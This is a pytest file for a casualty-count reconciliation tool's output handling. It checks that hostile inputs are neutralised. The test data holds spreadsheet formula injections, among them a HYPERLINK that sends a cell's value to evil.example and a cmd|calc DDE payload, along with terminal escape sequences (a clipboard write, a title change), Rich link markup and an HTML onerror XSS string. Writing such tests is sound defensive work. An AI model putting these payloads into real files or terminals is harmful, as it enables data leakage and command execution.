"""Output and terminal: conventions.md section 6.5 (cases 53-67) and issue 7's promises.

Every test id or name carries its case number (``53-54-csv``, ``test_61_...``).  The table of
all 67 cases is docs/hostile-inputs.md.  Beside the cases, this file checks the issue's claims:

* safe output: user text is never rich markup; control and bidi characters never reach a
  terminal; CSV/TSV formulas are neutralised but numbers are not; Markdown is escaped; JSON
  holds no NaN and escapes every control character;
* nothing lost: ``-o`` is atomic, never an input, untouched by a failed, interrupted or killed
  run; ``| head`` is quiet; Ctrl-C exits 130;
* determinism: the same bytes whatever PYTHONHASHSEED and the order of the input rows.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
import unicodedata
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from casualty_cli.cli import main
from casualty_cli.render.records import write_json, write_ndjson
from casualty_cli.render.safe import json_text, spreadsheet_cell

from .conftest import EXAMPLES, STABLE_ENV

TALLY = (sys.executable, "-m", "casualty_cli")
HEADER = ("source", "published", "place", "count")

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# A place is a '/' path, so the place-borne formula has no slash.
PLACE_FORMULA = '=HYPERLINK("evil.example?"&A1,"click")'
MARKUP_SOURCES = ("[bold red]CONFIRMED[/]", "[link=https://evil.example]UN[/link]", "[/]")
MARKUP_PLACE = "Khan Younis [citation needed]"
ESCAPE_SOURCE = "Evil\x1b[2J\x1b]0;title\x07"
CLIPBOARD_PLACE = "Rafah\x1b]52;c;aGVsbG8=\x07"
CLIPBOARD_SHOWN = "Rafah\\x1b]52;c;aGVsbG8=\\x07"


def write_reports(
    path: Path, rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER
) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(header)
        writer.writerows(rows)
    return path


def environment(**changes: str | None) -> dict[str, str]:
    """This process's environment with the tests' stable settings and ``changes`` applied."""
    env = dict(os.environ)
    for name, value in {**STABLE_ENV, **changes}.items():
        if value is None:
            env.pop(name, None)
        else:
            env[name] = value
    return env


def temporary_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def records(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


def no_traceback(result: Any) -> None:
    output = result.stdout + result.stderr
    assert "Traceback" not in output
    assert result.exception is None or isinstance(result.exception, SystemExit), output


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """2,000 reports: half a second to reconcile, and 160 KB of CSV, more than a pipe holds."""
    rows = [
        (
            f"Source {i % 7}",
            f"2025-03-{1 + i % 28:02d}",
            f"Place {i // 7}",
            str(10 + i % 500),
        )
        for i in range(2000)
    ]
    return write_reports(tmp_path_factory.mktemp("big") / "big.csv", rows)


# ----------------------------------------------------------------------------------------------
# 53-54: formulas in CSV and TSV


def revisions(tmp_path: Path, changes: Mapping[str, tuple[str, str]]) -> tuple[Path, Path]:
    """Two versions of a dataset in which each source's count changes: ``tally diff --revisions``
    prints the source of every changed report, so it carries user text into every format."""
    old = write_reports(
        tmp_path / "old.csv", [(s, "2025-03-08", "Gaza", a) for s, (a, _) in changes.items()]
    )
    new = write_reports(
        tmp_path / "new.csv", [(s, "2025-03-08", "Gaza", b) for s, (_, b) in changes.items()]
    )
    return old, new


FORMULA_SOURCES = {
    HYPERLINK: ("745", "800"),
    "\t=1+1": ("10", "12"),
    "\r@SUM(A1)": ("20", "21"),
    "-2+3+cmd|'/c calc'!A1": ("745", "700"),
}


@pytest.mark.parametrize(
    ("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")], ids=["53-54-csv", "53-54-tsv"]
)
def test_formula_sources_are_neutralised_but_numbers_are_not(
    fmt: str, delimiter: str, tmp_path: Path, runner: CliRunner
) -> None:
    """conventions.md 6.5 #53, #54: a quote before =, +, -, @ (tab and CR are trimmed from names
    on reading), but a difference of -45 is a number and stays one."""
    old, new = revisions(tmp_path, FORMULA_SOURCES)
    result = runner.invoke(main, ["diff", "--revisions", str(old), str(new), "-f", fmt])
    no_traceback(result)
    assert result.exit_code == 1  # differences
    rows = {row["source"]: row for row in records(result.stdout, delimiter)}
    assert sorted(rows) == ["'-2+3+cmd|'/c calc'!A1", "'=1+1", "'" + HYPERLINK, "'@SUM(A1)"]
    assert rows["'-2+3+cmd|'/c calc'!A1"]["difference"] == "-45"
    assert rows["'" + HYPERLINK]["difference"] == "55"

    raw = runner.invoke(
        main, ["diff", "--revisions", str(old), str(new), "-f", fmt, "--no-excel-safe"]
    )
    assert sorted(row["source"] for row in records(raw.stdout, delimiter)) == [
        "-2+3+cmd|'/c calc'!A1",
        "=1+1",
        HYPERLINK,
        "@SUM(A1)",
    ]


def test_53_json_keeps_the_formula_unchanged(tmp_path: Path, runner: CliRunner) -> None:
    old, new = revisions(tmp_path, {HYPERLINK: ("745", "800")})
    result = runner.invoke(main, ["diff", "--revisions", str(old), str(new), "-f", "json"])
    (row,) = json.loads(result.stdout)["revisions"]
    assert row["source"] == HYPERLINK


def test_53_reconcile_neutralises_a_formula_place_and_leaves_a_numeric_one(
    tmp_path: Path, runner: CliRunner
) -> None:
    path = write_reports(
        tmp_path / "r.csv",
        [("A", "2025-03-08", PLACE_FORMULA, "5"), ("B", "2025-03-08", "-12", "6")],
    )
    result = runner.invoke(main, ["reconcile", str(path), "-f", "csv"])
    assert result.exit_code == 0, result.stderr
    assert [row["place"] for row in records(result.stdout)] == ["-12", "'" + PLACE_FORMULA]
    assert result.stdout.splitlines()[2].startswith(
        '2,killed,all,"\'=HYPERLINK(""evil.example?""&A1,""click"")",'
    )


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\0=1+1", "'\0=1+1"),
        ("-12", "-12"),
        ("+745", "+745"),
        ("-1.5", "-1.5"),
        ("0", "0"),
        ("-١٢", "'-١٢"),  # only ASCII digits make a number a spreadsheet reads as one
        ("Gaza", "Gaza"),
    ],
)
def test_54_spreadsheet_cell(cell: str, written: str) -> None:
    assert spreadsheet_cell(cell) == written


# ----------------------------------------------------------------------------------------------
# 55-58: markup, links, control characters, Markdown


def hostile_reports(tmp_path: Path) -> Path:
    """Markup and escape sequences in sources and places; the markup sources count the most,
    so that their scope comes first and its headline names them."""
    rows = [(source, "2025-03-08", MARKUP_PLACE, "745") for source in MARKUP_SOURCES]
    rows += [
        (ESCAPE_SOURCE, "2025-03-08", MARKUP_PLACE, "700"),
        ("MoH", "2025-03-08", CLIPBOARD_PLACE, "10"),
    ]
    return write_reports(tmp_path / "hostile.csv", rows)


def test_55_56_57_the_table_prints_markup_and_escapes_literally(
    tmp_path: Path, runner: CliRunner
) -> None:
    """6.5 #55, #56, #57: no style, no link, no MarkupError; escape sequences made visible."""
    path = hostile_reports(tmp_path)
    result = runner.invoke(main, ["reconcile", str(path), "-f", "table"], env={"COLUMNS": "400"})
    no_traceback(result)
    assert result.exit_code == 0, result.stderr
    headline = result.stdout.splitlines()[0]
    names = sorted([*MARKUP_SOURCES, "Evil\\x1b[2J\\x1b]0;title\\x07"])
    assert headline.startswith("Best estimate 7")
    assert f"in {MARKUP_PLACE} as of 8 Mar 2025" in headline
    assert f"Based on 4 independent sources ({', '.join(names)})." in headline
    assert CLIPBOARD_SHOWN in result.stdout
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout


def test_57_data_formats_keep_user_text_and_json_escapes_it(
    tmp_path: Path, runner: CliRunner
) -> None:
    """6.5 #57: files and pipes get the data unchanged; JSON writes every control and bidi
    character as an escape, so that even on a terminal it drives nothing."""
    path = hostile_reports(tmp_path)
    as_csv = runner.invoke(main, ["reconcile", str(path), "-f", "csv"])
    assert CLIPBOARD_PLACE in [row["place"] for row in records(as_csv.stdout)]

    bidi = write_reports(
        tmp_path / "bidi.csv", [("A\u202eB", "2025-03-08", "Gaza\u009b2J\u202e", "5")]
    )
    for fmt in ("json", "ndjson"):
        for source in (path, bidi):
            result = runner.invoke(main, ["reconcile", str(source), "-f", fmt])
            assert result.exit_code == 0, result.stderr
            assert re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", result.stdout) is None
    document = runner.invoke(main, ["reconcile", str(bidi), "-f", "json"]).stdout
    assert '"place": "Gaza\\u009b2J\\u202e"' in document
    assert json.loads(document)["estimates"][0]["place"] == "Gaza\u009b2J\u202e"


def test_57_json_text_escapes_only_inside_strings_and_round_trips() -> None:
    value = {"name": "a\x7fb\x9bc\u202ed\u2066e\u200ff"}
    stream = io.StringIO()
    write_json(value, stream)
    assert stream.getvalue() == '{\n  "name": "a\\u007fb\\u009bc\\u202ed\\u2066e\\u200ff"\n}\n'
    assert json.loads(stream.getvalue()) == value
    assert json_text('"plain"') == '"plain"'


def test_57_messages_on_standard_error_show_escapes(tmp_path: Path, runner: CliRunner) -> None:
    path = write_reports(tmp_path / "r.csv", [("F", "\x1b]0;pwned\x07 2025", "Rafah", "5")])
    result = runner.invoke(main, ["reconcile", str(path)])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f'Error: {path}:2: published: "\\x1b]0;pwned\\x07 2025": not a date tally can read '
        "(give an ISO date such as 2025-03-07, a month such as 2025-03 or 7 March 2025)"
    )


def test_58_markdown_escapes_pipes_html_and_newlines(tmp_path: Path, runner: CliRunner) -> None:
    path = write_reports(
        tmp_path / "r.csv", [("A", "2025-03-08", "<img src=x onerror=alert(1)>|a", "7")]
    )
    result = runner.invoke(main, ["reconcile", str(path), "-f", "markdown"])
    assert result.exit_code == 0, result.stderr
    header, _, row = result.stdout.splitlines()[:3]
    assert row.startswith("| 1 | killed, &#60;img src=x onerror=alert(1)&#62;&#124;a, as of 8 Mar")
    assert row.count(" | ") == header.count(" | ")

    old, new = revisions(tmp_path, {"line one\nline two | <b>&</b>": ("1", "2")})
    diff = runner.invoke(main, ["diff", "--revisions", str(old), str(new), "-f", "markdown"])
    lines = diff.stdout.splitlines()
    assert len(lines) == 3  # header, rule, one row: the newline did not end the row
    assert "| line one line two &#124; &#60;b&#62;&#38;&#60;/b&#62; |" in lines[2]


# ----------------------------------------------------------------------------------------------
# 59: long text


def test_59_long_text_is_never_wrapped_in_data_and_folded_in_the_table(
    tmp_path: Path, runner: CliRunner
) -> None:
    long_place = "Ж" * 500
    path = write_reports(
        tmp_path / "r.csv",
        [("A", "2025-03-08", long_place, "12"), ("B", "2025-03-08", "Gaza", "700")],
    )
    for fmt, lines in (("csv", 3), ("tsv", 3), ("ndjson", 2)):
        result = runner.invoke(main, ["reconcile", str(path), "-f", fmt])
        assert len(result.stdout.splitlines()) == lines, fmt
        assert long_place in result.stdout
    table = runner.invoke(main, ["reconcile", str(path), "-f", "table"], env={"COLUMNS": "80"})
    assert table.exit_code == 0, table.stderr
    assert max(map(len, table.stdout.splitlines())) <= 80
    assert table.stdout.count("Ж") == 500  # folded, not cut


# ----------------------------------------------------------------------------------------------
# 60-61: -o is atomic and never an input


@pytest.mark.parametrize(
    ("args", "output", "input_name"),
    [
        pytest.param(["reconcile", "r.csv"], "r.csv", "r.csv", id="60-reconcile-same-name"),
        pytest.param(["reconcile", "r.csv"], "./r.csv", "r.csv", id="60-reconcile-other-spelling"),
        pytest.param(["reconcile", "r.csv"], "link.csv", "r.csv", id="60-reconcile-symlink"),
        pytest.param(
            ["reconcile", "r.csv", "--sources", "s.yaml"], "s.yaml", "s.yaml", id="60-sources-file"
        ),
        pytest.param(["validate", "r.csv"], "r.csv", "r.csv", id="60-validate"),
        pytest.param(["explain", "r.csv"], "r.csv", "r.csv", id="60-explain"),
        pytest.param(["diff", "--revisions", "r.csv", "s.csv"], "s.csv", "s.csv", id="60-diff"),
    ],
)
def test_60_output_over_an_input_is_refused(
    args: list[str],
    output: str,
    input_name: str,
    tmp_path: Path,
    runner: CliRunner,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    inputs = {
        "r.csv": b"source,count\nSOHR,745\n",
        "s.csv": b"source,count\nSOHR,746\n",
        "s.yaml": b"sources:\n  SOHR: {grade: B}\n",
    }
    for name, data in inputs.items():
        (tmp_path / name).write_bytes(data)
    if output == "link.csv":
        try:
            (tmp_path / "link.csv").symlink_to(tmp_path / "r.csv")
        except OSError:
            pytest.skip("symbolic links are not available here")
    result = runner.invoke(main, [*args, "-o", output])
    no_traceback(result)
    assert result.exit_code == (2 if args[0] == "diff" else 1)
    assert result.stdout == ""
    assert result.stderr.splitlines()[-1] == (
        f"Error: {output}: refusing to write over the input {input_name} "
        "(choose another output file)"
    )
    for name, data in inputs.items():
        assert (tmp_path / name).read_bytes() == data
    assert temporary_files(tmp_path) == []


OLD_OUTPUT = b"rank,best\n1,earlier estimate\n"


@pytest.fixture
def earlier_output(tmp_path: Path) -> Path:
    out = tmp_path / "out.csv"
    out.write_bytes(OLD_OUTPUT)
    return out


def reconcile_into(out: Path, runner: CliRunner, *args: str) -> Any:
    example = EXAMPLES / "syrian-coast-2025.yaml"
    return runner.invoke(main, ["reconcile", str(example), "-o", str(out), *args])


def test_61_a_full_disk_leaves_the_earlier_output_and_no_temporary_file(
    earlier_output: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(descriptor: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    # casualty_cli.output calls os.fsync before it renames the temporary file.
    monkeypatch.setattr(os, "fsync", full)
    result = reconcile_into(earlier_output, runner)
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {earlier_output}: cannot write {earlier_output}: {os.strerror(errno.ENOSPC)} "
        "(check the disk space and permissions)\n"
    )
    assert earlier_output.read_bytes() == OLD_OUTPUT
    assert temporary_files(earlier_output.parent) == []


def test_61_ctrl_c_while_writing_exits_130_and_leaves_the_earlier_output(
    earlier_output: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(descriptor: int) -> None:
        raise KeyboardInterrupt

    # casualty_cli.output calls os.fsync before it renames the temporary file.
    monkeypatch.setattr(os, "fsync", interrupted)
    result = reconcile_into(earlier_output, runner)
    assert result.exit_code == 130
    assert result.stderr == "Interrupted.\n"
    assert earlier_output.read_bytes() == OLD_OUTPUT
    assert temporary_files(earlier_output.parent) == []


def test_61_a_crash_before_writing_leaves_the_earlier_output(
    earlier_output: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    import casualty_cli.render.estimates as estimates

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(estimates, "write_estimates", broken)
    result = reconcile_into(earlier_output, runner)
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: internal error (RuntimeError: boom)")
    assert earlier_output.read_bytes() == OLD_OUTPUT
    assert temporary_files(earlier_output.parent) == []


def test_61_bad_input_leaves_the_earlier_output(
    earlier_output: Path, tmp_path: Path, runner: CliRunner
) -> None:
    path = write_reports(tmp_path / "r.csv", [("SOHR", "2025-03-08", "Gaza", "-5")])
    result = runner.invoke(main, ["reconcile", str(path), "-o", str(earlier_output)])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[-1] == "Error: 1 problem in the input; nothing was written."
    assert earlier_output.read_bytes() == OLD_OUTPUT
    assert temporary_files(tmp_path) == []


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_an_output_file_gets_the_usual_permissions(
    earlier_output: Path, tmp_path: Path, runner: CliRunner
) -> None:
    """A new file is made as open() would make it, not private like a temporary file; an
    existing one keeps its mode."""
    fresh = tmp_path / "fresh.csv"
    assert reconcile_into(fresh, runner).exit_code == 0
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~umask
    earlier_output.chmod(0o640)
    assert reconcile_into(earlier_output, runner).exit_code == 0
    assert stat.S_IMODE(earlier_output.stat().st_mode) == 0o640
    assert earlier_output.read_bytes() == fresh.read_bytes()


def test_61_sigkill_while_writing_never_leaves_a_truncated_output(
    big: Path, tmp_path: Path
) -> None:
    """Issue 7's acceptance test: tally is killed (SIGKILL, which nothing can catch) at moments
    spread over a run and the moment its temporary file appears; ``out.csv`` always holds the
    earlier bytes or all of the new ones.  Only hidden ``.out.csv.*.tmp`` files may be left."""
    if not hasattr(signal, "SIGKILL"):
        pytest.skip("no SIGKILL here")
    env = environment()
    reference = tmp_path / "reference.csv"
    started = time.monotonic()
    reconcile = [*TALLY, "reconcile", str(big), "-o"]
    subprocess.run([*reconcile, str(reference)], check=True, env=env, timeout=60)  # noqa: S603
    duration = time.monotonic() - started
    new = reference.read_bytes()
    out = tmp_path / "out.csv"
    for moment in (0.7, 1.0, None, None):
        out.write_bytes(OLD_OUTPUT)
        with subprocess.Popen(  # noqa: S603  (our own command, arguments we built)
            [*reconcile, str(out)], env=env, stderr=subprocess.DEVNULL
        ) as process:
            if moment is None:
                # The temporary file lives for a few milliseconds: look often.
                while process.poll() is None and not temporary_files(tmp_path):
                    time.sleep(0.0002)
            else:
                time.sleep(moment * duration)
            process.kill()
        written = out.read_bytes()
        assert written in (OLD_OUTPUT, new), f"truncated output after {moment}"
        for name in temporary_files(tmp_path):
            (tmp_path / name).unlink()
    assert set(tmp_path.iterdir()) == {reference, out}


# ----------------------------------------------------------------------------------------------
# 62: a closed pipe; Ctrl-C


def test_62_head_closing_the_pipe_is_quiet(big: Path) -> None:
    """``tally reconcile big.csv | head -1``: head's line, nothing on standard error, exit 1."""
    head_command = shutil.which("head")
    if head_command is None:
        pytest.skip("no head command here")
    with subprocess.Popen(  # noqa: S603  (our own command, arguments we built)
        [*TALLY, "reconcile", str(big), "-f", "csv"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment(),
    ) as tally:
        assert tally.stdout is not None
        try:
            head = subprocess.run(  # noqa: S603  (our own command, arguments we built)
                [head_command, "-1"], stdin=tally.stdout, capture_output=True, timeout=60
            )
            # head has gone: with this last reader closed, tally's next write fails.
            tally.stdout.close()
            _, stderr = tally.communicate(timeout=60)
        finally:
            tally.kill()
    assert head.stdout.startswith(b"rank,outcome,category,place,")
    assert head.stdout.endswith(b",origins,flags\n")
    assert stderr == b""
    assert tally.returncode == 1


def test_ctrl_c_exits_130_and_leaves_no_partial_output(big: Path, tmp_path: Path) -> None:
    """Ctrl-C (SIGINT) during a run: exit 130, "Interrupted.", the earlier output kept.

    tally reads its reports from a pipe, as in ``producer | tally reconcile - -o out.csv``, so
    that the signal surely arrives while it runs, whatever the speed of the machine.  Ctrl-C
    stops the whole pipeline, so the producer's end of the pipe closes too: the signal may
    have gone to one of numpy's threads, and only the main thread, back from its read, acts.
    """
    out = tmp_path / "out.csv"
    out.write_bytes(OLD_OUTPUT)
    data = big.read_bytes()
    with subprocess.Popen(  # noqa: S603  (our own command, arguments we built)
        [*TALLY, "reconcile", "-", "-o", str(out)],
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment(),
    ) as process:
        assert process.stdin is not None
        try:
            # More than a pipe holds: once this returns, tally is reading standard input.
            process.stdin.write(data[:200_000])
            process.stdin.flush()
            process.send_signal(signal.SIGINT)
            _, stderr = process.communicate(timeout=60)
        finally:
            process.kill()
    assert process.returncode == 130
    assert stderr == b"Interrupted.\n"
    assert out.read_bytes() == OLD_OUTPUT
    assert temporary_files(tmp_path) == []


def test_json_never_holds_nan(
    tmp_path: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A NaN that slipped into a result is a bug, reported as one; never written as NaN."""
    with pytest.raises(ValueError, match="Out of range float values"):
        write_json({"q": float("nan")}, io.StringIO())
    with pytest.raises(ValueError, match="Out of range float values"):
        write_ndjson([{"q": float("inf")}], io.StringIO())

    from casualty_cli.estimates import Reconciliation

    real = Reconciliation.records

    def with_nan(self: Reconciliation) -> list[dict[str, Any]]:
        return [{**record, "best": float("nan")} for record in real(self)]

    monkeypatch.setattr(Reconciliation, "records", with_nan)
    out = tmp_path / "out.json"
    result = reconcile_into(out, runner, "-f", "json")
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: internal error (ValueError: Out of range float")
    assert not out.exists()


# ----------------------------------------------------------------------------------------------
# 63: one source, many spellings


def origins(runner: CliRunner, *args: str) -> list[int]:
    result = runner.invoke(main, ["reconcile", *args, "-f", "json"])
    assert result.exit_code == 0, result.stderr
    return [e["origins"] for e in json.loads(result.stdout)["estimates"]]


def test_63_spellings_of_one_source_are_one_origin(tmp_path: Path, runner: CliRunner) -> None:
    spellings = ["Ministry of Health", "MoH", "وزارة الصحة", "ministry  of HEALTH"]
    path = write_reports(tmp_path / "r.csv", [(s, "2025-03-08", "Gaza", "745") for s in spellings])
    sources = tmp_path / "sources.yaml"
    sources.write_text(
        "sources:\n  MoH:\n    name: Ministry of Health\n"
        "    aliases: [Ministry of Health, وزارة الصحة]\n",
        encoding="utf-8",
    )
    assert origins(runner, str(path), "--sources", str(sources)) == [1]
    # Without the alias table only case and spacing are forgiven.
    assert origins(runner, str(path)) == [3]

    composed = "Kh\u0101n Younis Hospital"
    decomposed = unicodedata.normalize("NFD", composed)
    assert composed != decomposed
    nfd = write_reports(
        tmp_path / "nfd.csv",
        [(composed, "2025-03-08", "Gaza", "745"), (decomposed, "2025-03-08", "Gaza", "700")],
    )
    assert origins(runner, str(nfd)) == [1]


# ----------------------------------------------------------------------------------------------
# 64: determinism


def example_runs() -> list[list[str]]:
    inputs = [
        ["gaza-oct-2023.csv"],
        ["gaza-oct-2023@08615af.csv"],
        ["syrian-coast-2025.yaml"],
        ["syrian-coast-2025.csv", "syrian-coast-2025.context.yaml"],
    ]
    return [
        ["reconcile", *(str(EXAMPLES / name) for name in names), "-f", fmt]
        for names in inputs
        for fmt in ("csv", "json")
    ]


DRIVER = """
import json, sys
from click.testing import CliRunner
from casualty_cli.cli import main
runner = CliRunner()
results = [runner.invoke(main, args) for args in json.loads(sys.argv[1])]
print(json.dumps([[r.exit_code, r.stdout] for r in results]))
"""


def test_64_output_bytes_do_not_depend_on_the_hash_seed() -> None:
    """6.5 #64: the examples, reconciled as CSV and JSON in processes with three hash seeds."""
    runs = example_runs()
    outputs = []
    for seed in ("0", "1", "12345"):
        completed = subprocess.run(  # noqa: S603  (our own command, arguments we built)
            [sys.executable, "-c", DRIVER, json.dumps(runs)],
            capture_output=True,
            check=True,
            env=environment(PYTHONHASHSEED=seed),
            timeout=120,
        )
        outputs.append(json.loads(completed.stdout))
    assert all(status == 0 and text for status, text in outputs[0])
    assert outputs[1] == outputs[0]
    assert outputs[2] == outputs[0]


def reorderings(rows: Sequence[str]) -> list[list[str]]:
    """Three orders unlike the file's: reversed, odd rows first, rotated."""
    return [list(reversed(rows)), [*rows[1::2], *rows[::2]], [*rows[7:], *rows[:7]]]


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize(
    "names",
    [
        ["gaza-oct-2023.csv"],
        ["gaza-oct-2023@08615af.csv"],
        ["syrian-coast-2025.csv", "syrian-coast-2025.context.yaml"],
    ],
    ids=lambda names: f"64-{names[0]}",
)
def test_64_output_bytes_do_not_depend_on_the_order_of_the_rows(
    names: list[str], fmt: str, tmp_path: Path, runner: CliRunner
) -> None:
    first, *context = (str(EXAMPLES / name) for name in names)
    expected = runner.invoke(main, ["reconcile", first, *context, "-f", fmt])
    assert expected.exit_code == 0, expected.stderr
    header, *rows = Path(first).read_text(encoding="utf-8").splitlines(keepends=True)
    for number, order in enumerate(reorderings(rows)):
        shuffled = tmp_path / f"shuffled-{number}.csv"
        shuffled.write_text(header + "".join(order), encoding="utf-8")
        result = runner.invoke(main, ["reconcile", *context, str(shuffled), "-f", fmt])
        assert result.stdout.replace(str(shuffled), first) == expected.stdout


def test_64_yaml_reports_in_another_order(tmp_path: Path, runner: CliRunner) -> None:
    example = EXAMPLES / "syrian-coast-2025.yaml"
    document = yaml.safe_load(example.read_text(encoding="utf-8"))
    expected = runner.invoke(main, ["reconcile", str(example), "-f", "json"])
    for number, order in enumerate(reorderings(document["reports"])):
        path = tmp_path / f"shuffled-{number}.yaml"
        path.write_text(yaml.safe_dump({**document, "reports": order}), encoding="utf-8")
        result = runner.invoke(main, ["reconcile", str(path), "-f", "json"])
        assert result.stdout.replace(str(path), str(example)) == expected.stdout


# ----------------------------------------------------------------------------------------------
# 65-66: colour


def test_65_colour_variables_never_reach_data(tmp_path: Path, runner: CliRunner) -> None:
    """``FORCE_COLOR=1 tally ... --format csv > out.csv`` in CI: the same bytes as without."""
    example = str(EXAMPLES / "syrian-coast-2025.yaml")
    forced = {
        "NO_COLOR": None,
        "FORCE_COLOR": "1",
        "CLICOLOR_FORCE": "1",
        "TTY_COMPATIBLE": "1",
        "TERM": "xterm-256color",
    }
    for fmt in ("csv", "json", "markdown", "table"):
        plain = runner.invoke(main, ["reconcile", example, "-f", fmt])
        coloured = runner.invoke(main, ["reconcile", example, "-f", fmt], env=forced)
        assert coloured.stdout == plain.stdout, fmt
        assert "\x1b" not in coloured.stdout
        out = tmp_path / f"out.{fmt}"
        assert (
            runner.invoke(
                main, ["reconcile", example, "-f", fmt, "-o", str(out)], env=forced
            ).exit_code
            == 0
        )
        assert out.read_text(encoding="utf-8") == plain.stdout


SGR = re.compile(rb"\x1b\[([0-9;]*)m")


def on_a_terminal(args: Sequence[str], **env: str | None) -> bytes:
    """What tally writes to standard output when it is a terminal (a pseudo-terminal)."""
    pty = pytest.importorskip("pty")
    leader, follower = pty.openpty()
    with subprocess.Popen(  # noqa: S603  (our own command, arguments we built)
        [*TALLY, *args],
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=subprocess.DEVNULL,
        env=environment(**{"NO_COLOR": None, "TERM": "xterm-256color", "COLUMNS": "400", **env}),
    ) as process:
        os.close(follower)
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        process.wait(timeout=60)
    os.close(leader)
    # The terminal turns each "\n" into "\r\n".
    return b"".join(chunks).replace(b"\r\n", b"\n")


def colours(output: bytes) -> set[int]:
    """The SGR colour parameters used: foreground, background, 8-bit and true colour."""
    found = set()
    for parameters in SGR.findall(output):
        for value in filter(None, parameters.split(b";")):
            number = int(value)
            if 30 <= number <= 49 or 90 <= number <= 107:
                found.add(number)
    return found


def test_55_56_57_on_a_real_terminal(tmp_path: Path) -> None:
    """On a terminal: colour and bold, but no link (OSC 8), no title, no clipboard, no bell."""
    path = hostile_reports(tmp_path)
    shown = on_a_terminal(["reconcile", str(path)])
    assert colours(shown)  # it is a terminal: rich styles the table
    plain = SGR.sub(b"", shown).decode("utf-8")
    assert "\x1b" not in plain and "\x07" not in plain
    for name in (*MARKUP_SOURCES, MARKUP_PLACE, CLIPBOARD_SHOWN):
        assert name in plain

    as_csv = on_a_terminal(["reconcile", str(path), "-f", "csv"]).decode("utf-8")
    assert "\x1b" not in as_csv and "\x07" not in as_csv
    assert CLIPBOARD_SHOWN in as_csv


@pytest.mark.parametrize(
    ("env", "styled"),
    [
        pytest.param({"NO_COLOR": "1"}, True, id="66-no-color"),
        pytest.param({"TERM": "dumb"}, False, id="66-term-dumb"),
    ],
)
def test_66_no_color_and_dumb_terminals(env: dict[str, str], styled: bool) -> None:
    shown = on_a_terminal(["reconcile", str(EXAMPLES / "syrian-coast-2025.yaml")], **env)
    assert b"Best estimate" in shown
    assert colours(shown) == set()
    # NO_COLOR keeps bold and dim (it is about colour); a dumb terminal gets no escape at all.
    assert (b"\x1b" in shown) is styled


# ----------------------------------------------------------------------------------------------
# 67: a file named like an option


@pytest.mark.parametrize("command", ["validate", "reconcile"], ids=lambda c: f"67-{c}")
def test_67_a_file_named_like_an_option_after_double_dash(
    command: str, tmp_path: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "-reports.csv").write_text("source,count\nSOHR,745\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(main, [command, "-f", "csv", "--", "-reports.csv"])
    no_traceback(result)
    assert result.exit_code == 0, result.stderr
    if command == "validate":
        assert result.stderr == "1 report in 1 file: no problems\n"
    else:
        assert result.stdout.splitlines()[1].startswith("1,killed,all,,,,745,")
    unquoted = runner.invoke(main, [command, "-reports.csv"])
    assert unquoted.exit_code == 2  # without "--" it is an unknown option, as for any CLI


# ----------------------------------------------------------------------------------------------
# The list of cases


def test_the_documented_table_names_every_case_and_only_real_tests() -> None:
    """docs/hostile-inputs.md lists cases 1-67; every case id and test it cites exists."""
    from . import test_hostile_inputs

    doc = (Path(__file__).parent.parent / "docs" / "hostile-inputs.md").read_text(encoding="utf-8")
    numbers = {int(n) for n in re.findall(r"^\| (\d+) \|", doc, re.MULTILINE)}
    assert set(range(1, 68)) <= numbers
    for case in test_hostile_inputs.CASES:
        assert f"`{case.id}`" in doc, case.id
    tests = {
        name
        for module in (test_hostile_inputs, sys.modules[__name__])
        for name in vars(module)
        if name.startswith("test_")
    }
    for cited in re.findall(r"`(test_\w+?)(?:_…|\[|`)", doc):
        assert any(name.startswith(cited) for name in tests), cited
